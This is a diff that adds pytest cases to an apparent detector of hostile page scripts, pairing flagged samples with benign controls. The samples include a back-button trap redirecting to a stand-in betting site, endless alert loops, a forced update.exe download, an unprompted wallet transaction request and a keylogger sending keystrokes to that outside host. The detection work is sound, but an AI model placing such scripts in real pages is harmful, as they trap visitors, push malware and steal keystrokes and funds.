@@ -84,3 +84,40 @@ def test_a_block_of_links_to_sellers_is_a_farm() -> None:
     assert kinds(f"<div>{' '.join(directory)}</div>") == set()
     assert kinds(f"<footer>{' '.join(goods[:10])}</footer>") == set()
     assert kinds("".join(goods), head=topic) == set()
+
+
+AWAY = "https://win.test-bet.com/"
+POP = "for(var i=0;i<9;i++)history.pushState({},'',location.href);addEventListener('popstate',function(){%s})"
+ASK = "ethereum.request({method:'eth_requestAccounts'}).then(a=>ethereum.request({method:'eth_sendTransaction'}))"
+LOAD = "var a=document.createElement('a');a.href='%s';a.click()"
+
+
+@pytest.mark.parametrize(
+    ("script", "kind"),
+    [
+        (POP % f"location.href='{AWAY}'", "back-trap"),
+        (POP % "location.href='/basket'", None),
+        ("while(true){alert('0x80072ee7')}", "dialog-loop"),
+        ("for(;;) confirm('?')", "dialog-loop"),
+        ("while(true){var n=prompt('?');if(n){break}}", None),
+        ("while(i<3){alert(i++)}", None),
+        (LOAD % f"{AWAY}update.exe", "forced-download"),
+        (LOAD % "/setup.exe", None),
+        (LOAD % f"{AWAY}report.pdf", None),
+        (f"b.addEventListener('click',()=>{{{LOAD % (AWAY + 'update.exe')}}})", None),
+        (ASK, "wallet-request"),
+        (f"pay.onclick=()=>{ASK}", None),
+        (f"var k='';onkeydown=e=>{{k+=e.key;fetch('{AWAY}?k='+k)}}", "key-logger"),
+        ("var k='';onkeydown=e=>{k+=e.key;fetch('/search?k='+k)}", None),
+    ],
+)
+def test_scripts_that_hold_visitors_or_take_from_them(script: str, kind: str | None) -> None:
+    """Without being asked, and for another site."""
+    assert kinds(f"<script>{script}</script>") == ({kind} if kind else set())
+
+
+def test_a_download_that_a_link_offers_is_wanted() -> None:
+    """The link is there in case that it does not start by itself."""
+    address = f"{AWAY}setup.exe"
+
+    assert kinds(f"<a href={address}>ดาวน์โหลด</a><script>{LOAD % address}</script>") == set()
